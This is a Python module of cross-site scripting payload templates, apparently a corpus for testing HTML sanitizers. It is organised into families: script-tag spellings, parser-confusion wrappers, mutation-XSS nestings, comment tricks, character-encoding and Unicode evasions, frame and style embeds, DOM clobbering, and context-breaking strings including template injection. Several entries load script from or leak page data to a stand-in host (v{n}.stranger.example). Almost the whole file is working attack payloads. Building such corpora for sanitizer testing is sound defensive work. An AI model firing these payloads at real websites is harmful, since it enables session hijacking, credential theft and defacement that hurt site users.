"""Markup that means to run, by family: each is a list of templates with {n}, {s} (a script), {b} (one without quotes)."""

from itertools import product

# How a script element is spelt ...
_SCRIPTS = (
    "<script>{s}</script>",
    "<SCRIPT\n>{s}</SCRIPT\n>",
    "<script/x>{s}</script/x>",
    "<script type=module>{s}</script>",
    "<script src=//v{n}.stranger.example/x.js></script>",
    '<script src="data:text/javascript,{b}"></script>',
    "<script async defer type='text/javascript' nomodule>{s}</script><script>{s}</script>",
    "<script>/*<!--*/{s}/*-->*/</script>",
    "<scr<script>ipt>{s}</scr</script>ipt>",
    "<script\x0c>{s}</script ",
    "<svg><script>{s}</script></svg>",
    '<svg><script href="data:,{b}"/></svg>',
    "<svg><script>&#x{n:x};{b}</script></svg>",
    "<math><script>{s}</script></math>",
)
# ... and what it is put into, so that a parser may take it for something else.
_AROUND = (
    "{x}",
    "<p>word{x}word</p>",
    "<template>{x}</template>",
    "<noscript><p title='</noscript>{x}'>",
    "<!--><!-->{x}-->",
    "<![CDATA[{x}]]>",
    "<table><tr>{x}<td>word</table>",
    "<select><option>{x}</select>",
    "<textarea></textarea>{x}</textarea>",
    "<title></title>{x}</title>",
    "<xmp></xmp>{x}",
    "<noembed></noembed>{x}",
    "<iframe></iframe>{x}",
    "<style></style>{x}",
    "<ul><li>{x}<li><ol>{x}",
    "<a href='https://a.example/'><b>{x}",
)
SCRIPTS = tuple(around.replace("{x}", one) for around, one in product(_AROUND, _SCRIPTS))

# Foreign content, where a parser changes its rules, and what reads as text in one of them only.
_FOREIGN = ("svg", "math", "svg><desc", "math><mtext", "svg><foreignObject", "math><annotation-xml encoding=text/html")
_TURNS = ("", "<p>", "<mglyph>", "<table>", "</p>", "<form>", "<select>", "<font color=x>")
_RAW = ("style", "title", "textarea", "noscript", "xmp", "iframe", "noframes", "script")
_FIRES = ("<img src=x onerror={b}>", "<svg onload={b}>", "<video src=x onerror={b}>", "<details open ontoggle={b}>x")
MUTATIONS = tuple(
    f"<{foreign}>{turn}<{raw}><a id='</{raw}>{_FIRES[number % len(_FIRES)]}'>word"
    for number, (foreign, turn, raw) in enumerate(product(_FOREIGN, _TURNS, _RAW))
)
_FIRE = "<img src=x onerror={b}>"
NESTINGS = (
    f"<form><math><mtext></form><form><mglyph><style></math>{_FIRE}",
    f"<math><mtext><table><mglyph><style><!--</style>{_FIRE}-->",
    f"<svg></p><style><a id='</style>{_FIRE}'>",
    f"<math><mi><li><table><mglyph><style><![CDATA[</style>{_FIRE}]]>",
    f"<table><caption><svg><style></caption></table>{_FIRE}",
    f"<a><table><a></table><p><style></a>{_FIRE}",
    f"<option><style></option></select><b></b>{_FIRE}",
    f"<svg><annotation-xml><foreignobject><style><!--</style><p id='-->{_FIRE}'>",
    f"<math><annotation-xml encoding='text/html'><p><style><!--</style>{_FIRE}-->",
    "<div>" * 520 + f"<svg><style><b title='</style>{_FIRE}'>",
    "<form><p>" * 60 + f"<style></form>{_FIRE}",
    "<b><p>" * 40 + _FIRE,
    f"<p><svg><![CDATA[><p>{_FIRE}]]>",
    f"<li><nobr><nobr><svg><title><p title='</title>{_FIRE}'>",
    f"<dl><dt><template><dd></template>{_FIRE}<dd>",
    f"<ruby><rt><math><mo></ruby>{_FIRE}",
)

COMMENTS = tuple(
    frame.replace("{x}", fire)
    for frame, fire in product(
        (
            *(
                "<!-->{x}-->",
                "<!--->{x}-->",
                "<!-- --!>{x}-->",
                "<!--!>{x}",
                "<!-- -- >{x}--><!--",
                "<! {x}",
                "<!x>{x}",
            ),
            *(
                "<?php {x} ?>",
                "<?xml version='1.0'?>{x}",
                "<!DOCTYPE html [<!ENTITY x '{x}'>]>&x;{x}",
                "</ {x}>",
                "<//>{x}",
            ),
            *(
                "<!--[if IE]>{x}<![endif]-->",
                "<!--[if !IE]><!-->{x}<!--<![endif]-->",
                "<![if true]>{x}<![endif]>",
                "<%{x}%>",
            ),
            *(
                "<![CDATA[{x}]]>",
                "<![CDATA[<!--]]>{x}-->",
                "<!--<!--{x}-->-->",
                "<p title='<!--'>{x}-->",
                "<a<!--x-->{x}",
            ),
            *(
                "<{x}",
                "<<{x}>",
                "<\n{x}",
                "< img{x}",
                "<p <{x}",
                "<p title={x}",
                "<p title='{x}",
                '<p title="{x}',
                "<p/{x}",
            ),
        ),
        (_FIRE, "<svg/onload={b}>"),
    )
)

# Something else than "<", which something on the way may turn into it.
CHARSETS = (
    *(
        "&lt;script&gt;{s}&lt;/script&gt;",
        "&amp;lt;script&amp;gt;{s}&amp;lt;/script&amp;gt;",
        "&#60;script&#62;{s}&#60;/script&#62;",
    ),
    *(
        "&#x3c;svg onload={b}&#x3e;",
        "&#60svg onload={b}&#62",
        "&ltimg src=x onerror={b}&gt",
        "&LT;img src=x onerror={b}&GT;",
    ),
    *(
        "&#0000000000060;svg onload={b}>",
        "&#x26;lt;svg onload={b}>",
        "\uff1cscript\uff1e{s}\uff1c/script\uff1e",
        "\ufe64svg onload={b}\ufe65",
    ),
    *("\u2039img src=x onerror={b}\u203a", "\u02c2img src=x onerror={b}\u02c3", "\u226fimg src=x onerror={b}\u226e"),
    *(
        "<\u0338img src=x onerror={b}>",
        "<img src=x onerror={b}>\u0338",
        "<img src=x onerror={b} >\u0338word",
        "a>\u0338<b title='>\u0338'>",
    ),
    *(
        "+ADw-script+AD4-{s}+ADw-/script+AD4-",
        "%3Cscript%3E{s}%3C/script%3E",
        "\\u003cscript\\u003e{s}\\u003c/script\\u003e",
    ),
    *(
        "\\x3cscript\\x3e{s}\\x3c/script\\x3e",
        "<scr\x00ipt>{s}</scr\x00ipt>",
        "<\x00script>{s}</script>",
        "<img\x00src=x onerror={b}>",
    ),
    *(
        "<img src=x o\x00nerror={b}>",
        "<\u200bscript>{s}</script>",
        "<script\u00a0>{s}</script>",
        "<scr\u00adipt>{s}</script>",
    ),
    *(
        "\ufeff<script>{s}</script>",
        "<script\u3000>{s}</script>",
        "<\u017fcript>{s}</\u017fcript>",
        "<\u212ampx>{s}",
        "<ımg src=x onerror={b}>",
    ),
    *(
        "\ud800<script>{s}</script>",
        "<img src=x onerror\ud800={b}>",
        "\x1b$B<script>{s}</script>\x1b(B",
        "\x1b(J\\<script>{s}</script>",
    ),
    *(
        "~{{~<script>{s}</script>~}}",
        "\xbcscript\xbe{s}\xbc/script\xbe",
        "\u0bbcscript>{s}</script>",
        "<script>{s}</script\x0b>",
    ),
    *(
        "\U000e003cscript\U000e003e{s}",
        "<𝗌𝖼𝗋𝗂𝗉𝗍>{s}</𝗌𝖼𝗋𝗂𝗉𝗍>",
        "<ｓｃｒｉｐｔ>{s}</ｓｃｒｉｐｔ>",
        "<ⓢⓒⓡⓘⓟⓣ>{s}</ⓢⓒⓡⓘⓟⓣ>",
    ),
    *(
        "<ꜱᴄʀɪᴘᴛ>{s}</ꜱᴄʀɪᴘᴛ>",
        "<img src=x ｏｎｅｒｒｏｒ={b}>",
        "<\u202etpircs>{s}</\u202etpircs>",
        "<img src=x on\u2060error={b}>",
    ),
    *(
        "<img title=`><img src=x onerror={b}>`",
        "<img title=\u201cx\u201d onerror={b} src=x>",
        "<a\u2028href=javascript:{b}>word</a>",
    ),
)

# What loads, frames, styles, moves the page or captures what comes after it.
EMBEDS = (
    *(
        "<iframe srcdoc='<script>parent.marked({n})</script>'></iframe>",
        '<iframe srcdoc="&lt;svg onload=top.marked({n})&gt;"></iframe>',
    ),
    *(
        "<iframe srcdoc='&amp;lt;script&amp;gt;marked({n})'></iframe>",
        "<iframe sandbox='allow-scripts' srcdoc='<script>marked({n})</script>'>",
    ),
    *("<iframe src='//v{n}.stranger.example/'></iframe>", "<IFRAME SRC=//v{n}.stranger.example/ ONLOAD={b}></IFRAME>"),
    *(
        "<object data='data:text/html,<script>marked({n})</script>'></object>",
        "<embed src='data:image/svg+xml,<svg onload=marked({n})>'>",
    ),
    *(
        "<object type=text/x-scriptlet data=//v{n}.stranger.example/></object>",
        "<object><param name=movie value=//v{n}.stranger.example/></object>",
    ),
    *(
        "<applet code=//v{n}.stranger.example/></applet>",
        "<portal src=//v{n}.stranger.example/></portal>",
        "<fencedframe src=//v{n}.stranger.example/>",
    ),
    *("<frameset onload={b}><frame src=//v{n}.stranger.example/></frameset>", "<bgsound src=//v{n}.stranger.example/>"),
    *(
        "<link rel=stylesheet href=//v{n}.stranger.example/x.css>",
        "<link rel=preload as=script href=//v{n}.stranger.example/x.js>",
    ),
    *("<link rel=import href=//v{n}.stranger.example/>", "<link rel=modulepreload href=//v{n}.stranger.example/x.js>"),
    *(
        "<link rel=manifest href=//v{n}.stranger.example/>",
        "<link rel='dns-prefetch preconnect' href=//v{n}.stranger.example>",
    ),
    *(
        "<link rel=stylesheet href=data:,x onload={b}>",
        "<link rel=icon href=//v{n}.stranger.example/>",
        "<link rel=prerender href=//v{n}.stranger.example/>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//v{n}.stranger.example/'>",
        "<meta http-equiv=refresh content='0;data:text/html,<script>{s}</script>'>",
    ),
    *(
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
        "<meta http-equiv=set-cookie content='v{n}=1'>",
    ),
    *(
        "<meta charset=utf-7>+ADw-script+AD4-{s}+ADw-/script+AD4-",
        "<meta name=referrer content=unsafe-url><img src=//v{n}.stranger.example/>",
    ),
    *(
        "<base href=//v{n}.stranger.example/>",
        "<base target=_blank><base href='javascript:'>",
        "<style>@import '//v{n}.stranger.example/x.css';</style>",
    ),
    *(
        "<style>*{{background:url(//v{n}.stranger.example/)}}</style>",
        "<style>@keyframes pulse{{}}</style><b style=animation:pulse onanimationstart={b}>x",
    ),
    *(
        "<style>*{{color:red;transition:color 1ms}}</style><b ontransitionend={b} tabindex=0>x",
        '<b style="width:expression(marked({n}))">x</b>',
    ),
    *(
        "<style>body{{-moz-binding:url(//v{n}.stranger.example/)}}</style>",
        "<b style='behavior:url(//v{n}.stranger.example/)'>x</b>",
    ),
    *(
        "<style>input[value^=a]{{background:url(//v{n}.stranger.example/)}}</style><input value=a>",
        "<p style='list-style:url(//v{n}.stranger.example/)'>x",
    ),
    *(
        "<style><img src='</style><img src=x onerror={b}>'>",
        '<p style="}}</style><script>{s}</script>">x',
        "<style/>{s}<img src=x onerror={b}>",
    ),
    *(
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=marked({n})>#x'/></svg>",
        "<svg><use href=//v{n}.stranger.example/#x /></svg>",
    ),
    *(
        "<svg><animate onbegin={b} attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to={b}><text y=9>x",
        "<svg><image href=x onerror={b}>",
    ),
    *(
        "<svg><animatetransform onbegin={b} attributeName=transform>",
        "<svg><discard onbegin={b}>",
        "<svg><feimage href=//v{n}.stranger.example/ />",
    ),
    *(
        "<svg><foreignObject><body onload={b}>x</foreignObject>",
        "<svg><handler type=text/javascript>{s}</handler>",
        "<svg><style>@import '//v{n}.stranger.example/';</style>",
    ),
    *(
        "<math><maction actiontype=statusline#javascript:{b}>x</maction>",
        "<math><mi xlink:href=javascript:{b}>x",
        "<xml id=x><i>{s}</i></xml>",
    ),
    *(
        "<video><source onerror={b}></video>",
        "<video autoplay src=//v{n}.stranger.example/></video>",
        "<audio src onloadstart={b}></audio>",
    ),
    *(
        "<img src=//v{n}.stranger.example/ srcset='//v{n}.stranger.example/ 2x'>",
        "<input type=image src=//v{n}.stranger.example/ onload={b}>",
    ),
    *(
        "<img src='//v{n}.stranger.example/?",
        '<img src="//v{n}.stranger.example/?',
        "<a href=https://a.example/><b title='",
        "<form action=//v{n}.stranger.example/><textarea>",
    ),
    *(
        "<button form=f{n} formaction=//v{n}.stranger.example/>x",
        "<textarea>word",
        "<plaintext>word",
        "<xmp>word",
        "<select><option>word",
        "<noscript>word",
    ),
    *(
        "<template shadowrootmode=open><script>{s}</script></template>",
        "<div><template shadowrootmode=open><style>:host{{position:fixed}}</style><slot></template>x</div>",
    ),
    *(
        "<form id=marked><input name=call></form>",
        "<a id=location href=javascript:{b}></a>",
        "<img name=getElementById src=x>",
        "<form name=body><input name=append>",
    ),
    *(
        "<a id=customElements></a><a id=customElements name=get>",
        "<input name=__proto__ value='{{\"marked\":{n}}}'>",
        "<iframe name=fetch srcdoc=x></iframe>",
    ),
    *(
        "<form id=cookie><output id=innerHTML>x</output></form>",
        "<div id=main class=card popover>x</div>",
        "<feedhub-feed hub=//v{n}.stranger.example/>x</feedhub-feed>",
    ),
    *(
        "<div contenteditable autofocus onfocus={b}>x</div>",
        "<p is=x-own onclick={b}>x</p>",
        "<input onfocus={b} autofocus accesskey=x>",
        "<dialog open onclose={b}><form method=dialog><button>x",
    ),
    *(
        "<details open ontoggle={b}><summary>x</summary></details>",
        "<button popovertarget=p{n}>x</button><div popover id=p{n} ontoggle={b}>x</div>",
    ),
    *(
        "<button commandfor=p{n} command=show-popover onclick={b}>x</button>",
        "<isindex type=image src=1 onerror={b}>",
        "<marquee onstart={b}>x</marquee>",
    ),
    *(
        "<body onload={b} onpageshow={b} onhashchange={b}>x",
        "<html onclick={b}><head><title>x</title>",
        "<p data-copy='<img src=x onerror={b}>' data-copy-from='#x' hidden>x",
    ),
)

# What gets out of the place into which it is written: of every kind of text of a post, of an account, of a visit.
CLOSERS = (
    *(
        "<script>{s}</script>",
        "</script><script>{s}</script>",
        "</title><script>{s}</script>",
        "</textarea><svg onload={b}>",
        "</style><script>{s}</script>",
    ),
    *(
        '"><img src=x onerror={b}>',
        "'><svg onload={b}>",
        "--><img src=x onerror={b}>",
        "]]><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='{b}'/>",
    ),
    *(
        "</bdi></p></div></article></li></ul></main><script>{s}</script>",
        "</a></h2><a href=javascript:{b}>word</a>",
        "</pre><img src=x onerror={b}>",
    ),
    *(
        '" autofocus onfocus={b} x="',
        "' onmouseover={b} x='",
        '" style=position:fixed;inset:0 onclick={b} x="',
        "` onmouseover={b} x=`",
    ),
    *(
        '\\"}}</script><script>{s}</script>',
        '"}}];{b};//',
        "';{b};//",
        '"-{b}-"',
        "${{{b}}}",
        "`-{b}-`",
        "\\u0022;{b}//",
        '\u2028{b}//\u2029"',
    ),
    *(
        "{{{{constructor.constructor('{b}')()}}}}",
        "{{{{7*7}}}}{{{{ site }}}}",
        "{{% include 'layout.html' %}}{{{{ config }}}}",
        "<%= {b} %>",
        "#{{{b}}}",
    ),
    *(
        "[[{b}]]",
        "{{$on.constructor('{b}')()}}",
        "{{!!{b}!!}}",
        "__proto__",
        "constructor",
        "toString",
        "<!--<script>",
        "<!--<script>{s}//-->",
    ),
    *(
        "&lt;/script&gt;&lt;script&gt;{s}&lt;/script&gt;",
        "&quot;&gt;&lt;svg onload={b}&gt;",
        "javascript:{b}",
        "<b>bold</b><i>word",
        "<mark><svg onload={b}></mark>",
    ),
    *(
        "\x1b[2J\x00\x07{b}",
        "<?xml version='1.0'?><x/>",
        "%22%3E%3Csvg%20onload={b}%3E",
        "<x xmlns='javascript:{b}'/>",
        "@import '//v{n}.stranger.example/';",
    ),
)
